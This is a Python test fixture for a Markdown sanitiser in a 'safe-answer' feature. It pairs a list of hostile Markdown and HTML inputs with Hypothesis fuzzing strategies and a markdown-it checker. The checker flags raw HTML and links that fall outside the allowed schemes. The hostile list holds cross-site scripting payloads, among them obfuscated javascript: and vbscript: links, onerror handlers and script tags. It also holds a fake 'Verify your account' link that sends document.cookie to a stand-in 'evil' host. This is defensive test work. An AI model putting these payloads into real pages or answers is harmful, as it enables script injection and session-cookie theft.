"""Hostile and ordinary Markdown for the safe-answer tests, and a real CommonMark parser's view of what renders."""

from __future__ import annotations

import re
from typing import Any

from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bitbd.answer.markdown import DEFINITION_SCHEMES, IMAGE_SCHEMES, LINK_SCHEMES

HOSTILE = [
    "[Verify your account](javascript:fetch('//evil/'+document.cookie))",
    "<img src=x onerror=alert(1)>",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\\script:alert(1))",
    '[x]( \n vbscript:msgbox(1) "t")',
    "![p](data:image/svg+xml;base64,PHN2Zz4=)",
    "![p](javascript:alert(1))",
    "![m](mailto:a@b.c)",
    "<javascript:alert(1)>",
    "<data:text/html,<b>x</b>>",
    "[r]: javascript:alert(1)",
    "![img][m]\n\n[m]: mailto:a@b.c",
    "[m]: <mailto:a@b.c>\n![i][m]",
    "[r]:\n  data:text/html,x 'title'",
    "> [q]: vbscript:x",
    "[use][r] [r] [q][]",
    "<!-- c -->",
    "<?php ?>",
    "<!DOCTYPE html>",
    "<![CDATA[x]]>",
    "</script>",
    "<script>alert(1)</script>",
    "<a href='javascript:x'>y</a>",
    "<div\nonclick=alert(1)>",
    "[a](javascript:x)(javascript:y)",
    "`a\r<div onclick=alert(1)>\r`",
    "](http://x`y) `<b>`",
    "](http://x[a](javascript:y))",
    "text\n[r]: http://x[a](javascript:y)",
    "- a\n\n  ```\n  x\n```\n<b>\n```\n<img src=x onerror=alert(1)>",
    "1. a\n\n   ~~~\n   x\n     ~~~\n<i>\n~~~\n<i>",
    "```\n\t```\n<b>\n```",
    "\r\n",
    "\t",
    "```\r\n<i>\r\n```",
    "[t](javascript&colon;alert(1))",
    "[t](&#x6A;avascript:alert(1))",
    "[t](\tjavascript:alert(1))",
    "[[n]](javascript:x)",
    "![a [b](javascript:x)](http://ok.example/i.png)",
    "`<b>`",
    "`` a ` <i> ``",
    "```\n<b>code</b>\n```",
    "~~~\n<i>\n~~~",
    "  ```\n  <x>\n<y>\n  ```",
    "| a | `b|<i>` |\n|---|---|",
]
ORDINARY = [
    "Items can be returned within 30 days [1].",
    "**bold**",
    "_em_",
    "`code`",
    "see [the docs](https://docs.example/a_(b)) [2]",
    "[mail](mailto:help@example.com)",
    "<https://example.com/x>",
    "<help@example.com>",
    "\n\n- one\n- two\n",
    "\n\n1. first\n2. second\n",
    "a < b and c > d",
    "x <= y",
    "# Heading\n",
    "![logo](https://e.example/l.png)",
    "\n\n```python\nprint('<b>')\n```\n",
    "[1][2]",
    "3 * 4",
    "\\[not a link\\]",
    "> quoted\n",
]
PUNCTUATION = st.sampled_from(
    [
        *"[]()<>!`~\\:\n *#-|&;\"'=/",
        "javascript:",
        "](",
        "<img ",
        "```",
        "http://",
        "](http://a",
        "<b>",
        "(javascript:x)",
        "[r]: ",
        "\n\n",
        "> ",
        "- ",
        "    ",
        "![",
        "<http://a`b>",
        "<a@b.c>",
    ]
)
HOSTILE_TEXT = st.lists(
    st.one_of(st.sampled_from(HOSTILE), st.sampled_from(ORDINARY), PUNCTUATION, st.text("abc 1", max_size=4)),
    max_size=20,
).map("".join)
ORDINARY_TEXT = st.lists(st.sampled_from(ORDINARY), min_size=1, max_size=8).map(" ".join)

_MD = MarkdownIt("commonmark", {"html": True}).enable("table")
_MD.validateLink = lambda url: True  # type: ignore[method-assign]


def unsafe_parts(markdown: str) -> list[str]:
    """What a CommonMark renderer would turn into raw HTML or a link/image outside the allowed schemes."""
    found: list[str] = []

    def visit(tokens: list[Token]) -> None:
        for token in tokens:
            if token.type in ("html_inline", "html_block"):
                found.append(f"HTML {token.content!r}")
            if token.type in ("link_open", "image"):
                attr = "href" if token.type == "link_open" else "src"
                url = re.sub(r"[\x00-\x20\x7f]", "", str(token.attrGet(attr) or "")).lower()
                schemes = LINK_SCHEMES if token.type == "link_open" else IMAGE_SCHEMES
                if not url.startswith(schemes):
                    found.append(f"{token.type} {url!r}")
            visit(token.children or [])

    env: dict[str, Any] = {}
    visit(_MD.parse(markdown, env))
    for label, ref in env.get("references", {}).items():  # defined, even if nothing uses it (yet)
        url = re.sub(r"[\x00-\x20\x7f]", "", str(ref["href"])).lower()
        if not url.startswith(DEFINITION_SCHEMES):
            found.append(f"definition {label} {url!r}")
    return found
